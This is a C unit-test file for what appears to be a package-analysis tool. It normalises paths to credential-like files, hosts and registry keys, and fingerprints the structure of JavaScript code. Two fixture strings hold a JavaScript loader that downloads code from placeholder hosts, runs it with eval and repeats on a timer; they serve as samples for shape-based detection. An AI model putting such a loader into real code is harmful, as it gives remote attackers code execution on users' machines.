/* resource_test.c - what different packages write differently must become one text, and nothing
 * else may. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>

#include <cmocka.h>

#include "link/resource.h"
#include "link/shape.h"

#define HOLE "\xEF\xBF\xBC"

static const struct {
    const char *raw, *path;
} paths[] = {
    { "~/.x/token", "$HOME/.x/token" },
    { "$HOME/.x/token", "$HOME/.x/token" },
    { "${HOME}/.x/./y/../token", "$HOME/.x/token" },
    { "/home/dev/.x/token", "$HOME/.x/token" },
    { "/Users/dev/.x//token", "$HOME/.x/token" },
    { "/root/.x/token", "$HOME/.x/token" },
    { "C:\\Users\\dev\\.x\\token", "$HOME/.x/token" },
    { "%USERPROFILE%\\.x\\token", "$HOME/.x/token" },
    { "%userprofile%/.x/token", "$HOME/.x/token" },
    { "$env:USERPROFILE\\.x\\token", "$HOME/.x/token" },
    { "file:///home/dev/.x/token", "$HOME/.x/token" },
    { "%APPDATA%\\x", "$HOME/AppData/Roaming/x" },
    { "C:\\Users\\dev\\AppData\\Roaming\\x", "$HOME/AppData/Roaming/x" },
    { "/tmp/x", "$TMP/x" },
    { "%TEMP%\\x", "$TMP/x" },
    { "$TMPDIR/x", "$TMP/x" },
    { "C:\\Users\\dev\\AppData\\Local\\Temp\\x", "$TMP/x" },
    { "./x/y", "$PROJ/x/y" },
    { "x/y", "$PROJ/x/y" },
    { "/home/dev/project/x", "$PROJ/x" },
    { "$INIT_CWD/x", "$PROJ/x" },
    { "/home/dev/project/node_modules/a/b.js", "$NM/a/b.js" },
    { "../node_modules/a/node_modules/b/c", "$NM/b/c" },
    { "/opt/x", "/opt/x" },
    { "D:\\x\\y", "D:/x/y" },
    /* no path, or not all of it is known */
    { "", "" },
    { "~", "" },
    { "/tmp/", "" },
    { "/", "" },
    { "~/" HOLE "/token", "" },
    { "<net>", "" },
    { "~/*.log", "" },
    { "https://example.invalid/x", "" },
    { "~/../../../etc", "" },
    { "../x", "" },
    { "~/a\nb", "" },
    /* a name that begins like a head */
    { "/tmpfiles/x", "/tmpfiles/x" },
    { "~x/y", "$PROJ/~x/y" },
    { "/homes/dev/x", "/homes/dev/x" },
};

static void paths_meet(void **state)
{
    (void)state;
    RT_ARENA arena = rt_arena_open(1 << 20, NULL, NULL);
    for (size_t i = 0; i < RT_COUNT(paths); i++) {
        RtStr path = rt_resource_path(arena, rt_str_from_c(paths[i].raw));
        if (!rt_str_equal(path, rt_str_from_c(paths[i].path)))
            fail_msg("%s: %.*s, not %s", paths[i].raw, RT_FMT(path), paths[i].path);
    }
}

/* Long, deep and cut-off paths are refused or shortened to something that is a path again. */
static void paths_are_bounded(void **state)
{
    (void)state;
    RT_ARENA arena = rt_arena_open(64 << 20, NULL, NULL);
    RtText deep = { .arena = arena };
    for (int i = 0; i < 5000; i++)
        rt_text_add(&deep, RT_STR("a/"));
    assert_int_equal(rt_resource_path(arena, rt_text_str(&deep)).len, 0);
    RtStr whole = RT_STR("C:\\Users\\dev\\AppData\\Local\\Temp\\..\\x\\.\\node_modules\\y\\z");
    for (size_t len = 0; len <= whole.len; len++) {
        RtStr path = rt_resource_path(arena, rt_str_sub(whole, 0, len));
        assert_true(path.len <= RT_SUMMARY_TEXT);
        assert_false(rt_str_has(path, RT_STR("/../")));
    }
}

static void hosts_and_ports(void **state)
{
    (void)state;
    static const struct {
        const char *url, *host;
        uint32_t port;
    } cases[] = {
        { "https://A.Example.invalid/x?y#z", "a.example.invalid", 0 },
        { "http://user:pass@a.example.invalid:81/x", "a.example.invalid", 81 },
        { "http://127.0.0.1:4511", "127.0.0.1", 4511 },
        { "ws://[::1]:99/x", "[::1]", 99 },
        { "localhost", "localhost", 0 },
        { "a.example.invalid:70000", "a.example.invalid", 0 },
        { "https://" HOLE ".example.invalid/", "", 0 },
        { "https://a b/", "", 0 },
        { "", "", 0 },
    };
    RT_ARENA arena = rt_arena_open(1 << 20, NULL, NULL);
    for (size_t i = 0; i < RT_COUNT(cases); i++) {
        uint32_t port = 1;
        RtStr host = rt_resource_host(arena, rt_str_from_c(cases[i].url), &port);
        if (!rt_str_equal(host, rt_str_from_c(cases[i].host)) || port != cases[i].port)
            fail_msg("%s: %.*s %u", cases[i].url, RT_FMT(host), port);
    }
    assert_true(rt_resource_is_local(RT_STR("127.9.0.1")));
    assert_true(rt_resource_is_local(RT_STR("[::1]")));
    assert_false(rt_resource_is_local(RT_STR("localhost.example.invalid")));
}

static void registry_keys(void **state)
{
    (void)state;
    RT_ARENA arena = rt_arena_open(1 << 20, NULL, NULL);
    static const char *const same[] = { "HKCU\\Software\\X", "HKEY_CURRENT_USER\\Software\\X",
                                        "HKCU:\\Software\\X", "hkcu/software/x" };
    for (size_t i = 0; i < RT_COUNT(same); i++)
        assert_true(rt_str_equal(rt_resource_key(arena, rt_str_from_c(same[i])),
                                 RT_STR("hkcu/software/x")));
    assert_int_equal(rt_resource_key(arena, RT_STR("HKCUX\\y")).len, 0);
    assert_int_equal(rt_resource_key(arena, RT_STR("/home/dev/x")).len, 0);
}

static void what_everybody_shares(void **state)
{
    (void)state;
    assert_true(rt_resource_is_known(RT_RESOURCE_FILE, RT_STR("$HOME/.npmrc")));
    assert_true(rt_resource_is_known(RT_RESOURCE_FILE, RT_STR("$HOME/.aws/config")));
    assert_true(rt_resource_is_known(RT_RESOURCE_FILE, RT_STR("$HOME/.config/configstore/x.json")));
    assert_true(rt_resource_is_known(RT_RESOURCE_FILE, RT_STR("$NM/.prisma/client/index.js")));
    assert_true(rt_resource_is_known(RT_RESOURCE_ENV, RT_STR("NODE_ENV")));
    assert_true(rt_resource_is_known(RT_RESOURCE_GLOBAL, RT_STR("webpackChunkx")));
    assert_true(rt_resource_is_known(RT_RESOURCE_GLOBAL, RT_STR("__core-js_shared__")));
    assert_false(rt_resource_is_known(RT_RESOURCE_FILE, RT_STR("$HOME/.x/.npmrc")));
    assert_false(rt_resource_is_known(RT_RESOURCE_FILE, RT_STR("$HOME/.vskode/jsontoken")));
    assert_false(rt_resource_is_known(RT_RESOURCE_ENV, RT_STR("$HOME/.npmrc")));
}

/* ---- shapes */

static const char loader[] =
    "const a = require('https'); function go(x, y) { let t = ''; a.get(x, r => { r.on('data', d => "
    "{ t += d; }); r.on('end', () => { try { eval(t); } catch (e) { go(y, x); } }); }); } "
    "go('https://a.example.invalid', 'https://b.example.invalid'); setInterval(() => go(1, 2), "
    "60);";
static const char renamed[] =
    "// another comment\nconst zz = require(\"http\"); function start(url, next) { let body = `x`; "
    "zz.get(url, answer => { answer.on('chunk', piece => { body += piece; }); answer.on(\"close\", "
    "() => { try { eval(body); } catch (oops) { start(next, url); } }); }); } start('x', /y/); "
    "setInterval(() => start(77, 0xff), 9);";
static const char other[] =
    "module.exports = class Queue { constructor(limit) { this.items = []; this.limit = limit; } "
    "push(item) { if (this.items.length >= this.limit) { throw new Error('full'); } "
    "this.items.push(item); return this; } shift() { return this.items.shift(); } "
    "get size() { return this.items.length; } };";

static void shapes_outlive_names(void **state)
{
    (void)state;
    RtShape a, b, c;
    assert_true(rt_shape_of(rt_str_from_c(loader), false, &a));
    assert_true(rt_shape_of(rt_str_from_c(renamed), false, &b));
    assert_true(rt_shape_of(rt_str_from_c(other), false, &c));
    assert_in_range(rt_shape_common(&a, &b), 28, RT_SHAPE_SLOTS);
    assert_in_range(rt_shape_common(&a, &c), 0, 8);
    assert_false(rt_shape_of(RT_STR("let a = 1;"), false, &a));
}

/* Cut anywhere, and made of openings only: never past the end, and in linear time. */
static void shapes_of_anything(void **state)
{
    (void)state;
    RT_ARENA arena = rt_arena_open(8 << 20, NULL, NULL);
    RtStr whole = rt_str_from_c(renamed);
    RtShape shape;
    for (size_t len = 0; len <= whole.len; len++)
        (void)rt_shape_of(rt_str_copy(arena, rt_str_sub(whole, 0, len)), len % 2, &shape);
    static const char *const openings[] = { "/*", "'", "`\\", "//", "((", "a\n" };
    for (size_t i = 0; i < RT_COUNT(openings); i++) {
        RtText text = { .arena = arena };
        while (text.len < 300000)
            rt_text_add(&text, rt_str_from_c(openings[i]));
        (void)rt_shape_of(rt_text_str(&text), false, &shape);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(paths_meet),
        cmocka_unit_test(paths_are_bounded),
        cmocka_unit_test(hosts_and_ports),
        cmocka_unit_test(registry_keys),
        cmocka_unit_test(what_everybody_shares),
        cmocka_unit_test(shapes_outlive_names),
        cmocka_unit_test(shapes_of_anything),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
